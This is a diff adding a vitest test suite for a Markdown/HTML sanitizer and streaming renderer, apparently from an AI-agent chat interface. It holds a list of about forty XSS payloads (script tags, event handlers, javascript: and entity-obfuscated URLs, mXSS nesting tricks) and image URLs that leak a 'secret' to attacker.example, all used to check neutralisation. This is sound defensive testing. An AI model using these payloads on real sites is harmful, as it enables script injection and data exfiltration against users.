@@ -1,0 +1,185 @@
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { renderMarkdown, sanitizeHtml, sanitizeToFragment, sanitizerWorks, stablePrefixLength } from "./markdown.js";
+import { AnswerView } from "./render/answer.js";
+
+// Every payload tries to flip this global flag or navigate to javascript:.
+const PAYLOADS = [
+  `<script>globalThis.__pwned = 1</script>`,
+  `<SCRIPT SRC=data:text/javascript,globalThis.__pwned=1></SCRIPT>`,
+  `<img src=x onerror="globalThis.__pwned=1">`,
+  `<img src="x" OnErRoR=globalThis.__pwned=1 />`,
+  `<svg onload="globalThis.__pwned=1"><circle r=1></circle></svg>`,
+  `<svg><script>globalThis.__pwned=1</script></svg>`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
+  `<a href="javascript:globalThis.__pwned=1">click</a>`,
+  `<a href="jAvAsCrIpT:globalThis.__pwned=1">click</a>`,
+  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;globalThis.__pwned=1">entity</a>`,
+  `<a href="&#x6A;avascript&colon;globalThis.__pwned=1">hex entity</a>`,
+  `<a href=" \tjava\nscript:globalThis.__pwned=1">whitespace</a>`,
+  `[md link](javascript:globalThis.__pwned=1)`,
+  `[md link 2](  JaVaScRiPt:globalThis.__pwned=1 )`,
+  `![img](x" onerror="globalThis.__pwned=1)`,
+  `<div style="background:url(javascript:globalThis.__pwned=1); width: expression(globalThis.__pwned=1)">style</div>`,
+  `<style>*{background:url("javascript:globalThis.__pwned=1")}</style>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.__pwned=1"></style></mglyph></table></mtext></math>`,
+  `<math><mi xlink:href="javascript:globalThis.__pwned=1">m</mi></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="globalThis.__pwned=1">`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">data html</a>`,
+  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
+  `<embed src="javascript:globalThis.__pwned=1">`,
+  `<form action="javascript:globalThis.__pwned=1"><button>go</button></form>`,
+  `<button formaction="javascript:globalThis.__pwned=1">go</button>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:globalThis.__pwned=1">`,
+  `<base href="javascript:globalThis.__pwned=1//">`,
+  `<link rel="stylesheet" href="javascript:globalThis.__pwned=1">`,
+  `<details open ontoggle="globalThis.__pwned=1">x</details>`,
+  `<body onload="globalThis.__pwned=1">`,
+  `<input autofocus onfocus="globalThis.__pwned=1">`,
+  `<video><source onerror="globalThis.__pwned=1"></video>`,
+  `<noscript><p title="</noscript><img src=x onerror=globalThis.__pwned=1>">`,
+  `<template><img src=x onerror="globalThis.__pwned=1"></template>`,
+  `<a href="vbscript:msgbox(1)">vb</a>`,
+  `<img srcset="x 1x" src="https://attacker.example/leak?secret=1" alt="tracker">`,
+  '```html\n<script>globalThis.__pwned=1</script>\n```',
+  `<p id="__proto__" name="getElementById">clobber</p>`,
+];
+
+function render(html, md = false) {
+  const div = document.createElement("div");
+  div.append(md ? renderMarkdown(html) : sanitizeToFragment(html));
+  document.body.append(div);
+  return div;
+}
+
+function assertInert(div) {
+  expect(div.querySelector("script, iframe, object, embed, form, style, meta, base, link, svg, math, input, button, template, video, source")).toBeNull();
+  for (const el of div.querySelectorAll("*")) {
+    for (const attr of el.attributes) {
+      expect(attr.name.toLowerCase().startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
+      expect(attr.name.toLowerCase()).not.toBe("style");
+      expect(attr.name.toLowerCase()).not.toBe("srcset");
+      expect(attr.value.replace(/[\s\u0000-\u001f]/g, "")).not.toMatch(/^(javascript|vbscript|data:text)/i);
+    }
+  }
+  for (const a of div.querySelectorAll("a[href]")) {
+    expect(a.href.replace(/\s/g, "")).toMatch(/^(https?:|mailto:|#|about:blank#)/i);
+    expect(a.getAttribute("target")).toBe("_blank");
+    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
+  }
+  for (const img of div.querySelectorAll("img[src]")) expect(img.getAttribute("src")).toMatch(/^data:image\//);
+}
+
+describe("sanitizer", () => {
+  beforeEach(() => {
+    delete globalThis.__pwned;
+  });
+  afterEach(() => {
+    document.body.replaceChildren();
+  });
+
+  it("works in this DOM (jsdom)", () => {
+    expect(sanitizerWorks()).toBe(true);
+  });
+
+  it(`neutralises ${PAYLOADS.length} XSS payloads, as HTML and as Markdown`, async () => {
+    expect(PAYLOADS.length).toBeGreaterThanOrEqual(20);
+    for (const p of PAYLOADS) {
+      assertInert(render(p));
+      assertInert(render(p, true));
+      assertInert(render(`Some **text** and then ${p} and more`, true));
+    }
+    // let any queued handler (error events, timers) run
+    await new Promise((r) => setTimeout(r, 50));
+    for (const a of document.querySelectorAll("a")) a.click?.();
+    expect(globalThis.__pwned).toBeUndefined();
+  });
+
+  it("keeps ordinary Markdown: emphasis, code, lists, tables, safe links", () => {
+    const div = render("# Title\n\n**b** _i_ `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[ok](https://example.org/a?b=1) <mailto:x@y.z>\n\n```py\nprint(1)\n```", true);
+    expect(div.querySelector("h1").textContent).toBe("Title");
+    expect(div.querySelector("strong").textContent).toBe("b");
+    expect(div.querySelector("em").textContent).toBe("i");
+    expect(div.querySelectorAll("li")).toHaveLength(2);
+    expect(div.querySelector("table td").textContent).toBe("1");
+    expect(div.querySelector("pre code").textContent).toBe("print(1)\n");
+    const a = div.querySelector('a[href^="https"]');
+    expect(a.getAttribute("href")).toBe("https://example.org/a?b=1");
+    expect(a.getAttribute("target")).toBe("_blank");
+    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
+  });
+
+  it("turns remote images into links (no request to a model-chosen URL) and keeps inline raster data images", () => {
+    const div = render("![chart](https://attacker.example/p.png?d=secret) ![dot](data:image/png;base64,iVBORw0KGgo=)", true);
+    const imgs = div.querySelectorAll("img");
+    expect(imgs).toHaveLength(1);
+    expect(imgs[0].getAttribute("src")).toMatch(/^data:image\/png;base64,/);
+    const link = div.querySelector("a.agentcell-img-link");
+    expect(link.textContent).toBe("[image: chart]");
+    expect(link.getAttribute("href")).toBe("https://attacker.example/p.png?d=secret");
+    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
+  });
+
+  it("does not allow svg data images", () => {
+    const div = render('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', false);
+    expect(div.querySelector("img[src]")).toBeNull();
+  });
+
+  it("prefixes id/name against DOM clobbering", () => {
+    const html = sanitizeHtml('<p id="agentcell-x">a</p>');
+    expect(html).not.toContain('id="agentcell-x"');
+  });
+
+  it("renders task lists without form inputs", () => {
+    const div = render("- [x] done\n- [ ] todo", true);
+    expect(div.querySelector("input")).toBeNull();
+    expect(div.textContent).toContain("\u2611 done");
+    expect(div.textContent).toContain("\u2610 todo");
+  });
+});
+
+describe("incremental Markdown", () => {
+  it("stablePrefixLength: complete blocks before the last one, complete lines only", () => {
+    expect(stablePrefixLength("para one\n\npara two")).toBe(0); // "para two" is a partial line
+    expect(stablePrefixLength("para one\n\npara two\n")).toBe("para one\n\n".length);
+    expect(stablePrefixLength("no blank line yet\n")).toBe(0);
+    expect(stablePrefixLength("a\n\n```\ncode\n\nmore code\n")).toBe(3); // open fence stays in the tail
+    expect(stablePrefixLength("a\n\n```\ncode\n```\n\nafter\n")).toBe("a\n\n```\ncode\n```\n\n".length);
+    expect(stablePrefixLength("- item\n\n  continued\n")).toBe(0); // one list
+    expect(stablePrefixLength("- item\n\n-")).toBe(0); // "-" may still become "- item 2"
+    expect(stablePrefixLength("intro\n\n - a\n - b\n\n sed do\n")).toBe("intro\n\n - a\n - b\n\n".length);
+    expect(stablePrefixLength("| a |\n|---|\n| 1 |\n\nnext\n")).toBe("| a |\n|---|\n| 1 |\n\n".length);
+  });
+
+  it("renders complete blocks once and only re-renders the tail", () => {
+    const el = document.createElement("div");
+    const view = new AnswerView(el);
+    let text = "";
+    const paragraphs = Array.from({ length: 50 }, (_, i) => `Paragraph ${i} with **bold** text.\n\n`);
+    for (const p of paragraphs) {
+      for (const piece of p.match(/.{1,7}/gs)) {
+        text += piece;
+        view.update(text, false);
+      }
+    }
+    const chunks = el.querySelectorAll(".agentcell-md-chunk");
+    expect(chunks.length).toBeGreaterThan(40);
+    expect(el.querySelectorAll("strong")).toHaveLength(50);
+    view.update(text + "tai", false);
+    const renders = view.renders;
+    view.update(text + "tail", false);
+    expect(view.renders - renders).toBe(1); // only the tail
+    view.update(text + "tail", true);
+    expect(el.querySelectorAll("p")).toHaveLength(51);
+    expect(el.querySelector(".agentcell-md-chunk")).toBeNull();
+  });
+
+  it("starts over when the text is replaced (retraction)", () => {
+    const el = document.createElement("div");
+    const view = new AnswerView(el);
+    view.update("first answer\n\nmore", false);
+    view.update("different", false);
+    expect(el.textContent).not.toContain("first");
+    expect(el.textContent).toContain("different");
+  });
+});
